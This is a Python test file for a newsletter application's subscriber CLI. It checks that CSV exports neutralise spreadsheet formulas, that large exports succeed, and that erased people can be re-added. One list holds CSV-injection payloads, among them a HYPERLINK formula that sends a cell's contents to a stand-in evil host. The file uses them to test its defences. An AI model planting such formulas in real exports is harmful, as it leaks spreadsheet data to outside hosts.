"""Exports no spreadsheet evaluates, big exports, and erased people who come back (CLI, real DB)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import insert
from sqlmodel import Session, select

from newsletter.db import make_engine, session_scope
from subscribers.csvfile import restore_cell, safe_cell
from subscribers.models import Subscriber, Subscription, Suppression
from tests.cli_helpers import cli
from tests.conftest import NOW
from tests.helpers import add_articles, seed_list, subscribe
from tests.smtpserver import RecordingServer

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def db_url(request: pytest.FixtureRequest) -> str:
    url: str = request.getfixturevalue(f"{request.param}_url")
    return url


@settings(max_examples=300)
@given(st.text(max_size=30))
def test_safe_cells_never_start_a_formula_and_round_trip(value: str) -> None:
    cell = safe_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_cell(cell) == value or (value.startswith("'") and restore_cell(value) != value)


def test_formula_names_are_neutralised_and_import_restores_them(
    sqlite_url: str, tmp_path: Path
) -> None:
    engine = make_engine(sqlite_url)
    seed_list(engine, NOW, ["tech"])
    for index, name in enumerate(FORMULAS):
        subscribe(engine, NOW, f"p{index}@example.com", ["tech"], name=name)
    subscribe(engine, NOW, "=cmd@example.com", ["tech"], name="Tab")
    engine.dispose()
    out = tmp_path / "export.csv"
    result = cli(sqlite_url, "subscribers", "export", "--list", "daily", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert rows[1][:2] == ["'=cmd@example.com", "Tab"]
    assert {row[1] for row in rows[2:]} == {f"'{name}" for name in FORMULAS}
    # Importing the export elsewhere gives back the same names and addresses.
    fresh = tmp_path / "fresh.db"
    fresh_url = f"sqlite:///{fresh}"
    assert cli(fresh_url, "db", "upgrade").returncode == 0
    engine = make_engine(fresh_url)
    seed_list(engine, NOW, ["tech"])
    engine.dispose()
    imported = cli(fresh_url, "subscribers", "import", str(out), "--list", "daily", "--confirmed")
    assert imported.returncode == 0, imported.stderr
    engine = make_engine(fresh_url)
    with Session(engine) as session:
        names = {s.email: s.name for s in session.exec(select(Subscriber))}
    engine.dispose()
    assert names == {
        **{f"p{i}@example.com": name for i, name in enumerate(FORMULAS)},
        "=cmd@example.com": "Tab",
    }


def test_exporting_more_than_2000_people(db_url: str, tmp_path: Path) -> None:
    # Issue 10 item 7: expunge_all() in the middle of the batched read crashed the export.
    engine = make_engine(db_url)
    mailing_list = seed_list(engine, NOW, ["tech"])
    count = 4321
    with session_scope(engine) as session:
        session.execute(
            insert(Subscriber),
            [
                {
                    "email": f"p{i:05d}@example.com",
                    "name": f"P {i}",
                    "status": "active",
                    "timezone": "UTC",
                    "attributes": {},
                    "soft_bounces": 0,
                    "created_at": NOW,
                    "updated_at": NOW,
                }
                for i in range(count)
            ],
        )
        ids = session.exec(select(Subscriber.id)).all()
        session.execute(
            insert(Subscription),
            [
                {
                    "subscriber_id": i,
                    "list_id": mailing_list.id,
                    "status": "active",
                    "topics": ["tech"],
                    "cadence": "daily",
                    "weekday": 0,
                    "send_hour": 8,
                    "created_at": NOW,
                }
                for i in ids
            ],
        )
    engine.dispose()
    out = tmp_path / "big.csv"
    result = cli(db_url, "subscribers", "export", "--list", "daily", "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert f"{count} subscriber(s) exported" in result.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == count + 1 and lines[1].startswith("p00000@example.com,P 0,tech")
    assert lines[-1].startswith(f"p{count - 1:05d}@example.com")


def test_an_erased_person_added_back_can_be_lifted_and_mailed(
    db_url: str, smtp_server: RecordingServer
) -> None:
    # Issue 10 item 7: `suppressions remove` said the address was not on the list.
    engine = make_engine(db_url)
    seed_list(engine, NOW, ["tech"])
    add_articles(engine, NOW, [["tech"]])
    subscribe(engine, NOW, "back@example.com", ["tech"])
    engine.dispose()
    assert cli(db_url, "subscribers", "erase", "back@example.com", "--yes").returncode == 0
    added = cli(
        db_url,
        "subscribers",
        "add",
        "back@example.com",
        "--list",
        "daily",
        "--topic",
        "tech",
        "--confirmed",
    )
    assert added.returncode == 0, added.stderr
    removed = cli(db_url, "suppressions", "remove", "back@example.com")
    assert removed.returncode == 0, removed.stderr
    engine = make_engine(db_url)
    with Session(engine) as session:
        assert session.exec(select(Suppression)).all() == []
    engine.dispose()
    again = cli(db_url, "suppressions", "remove", "back@example.com")
    assert again.returncode == 1 and "Traceback" not in again.stderr
    sent = cli(db_url, "send", "--list", "daily", smtp=smtp_server)
    assert sent.returncode == 0, sent.stderr
    assert [list(m.rcpt_tos) for m in smtp_server.messages] == [["back@example.com"]]
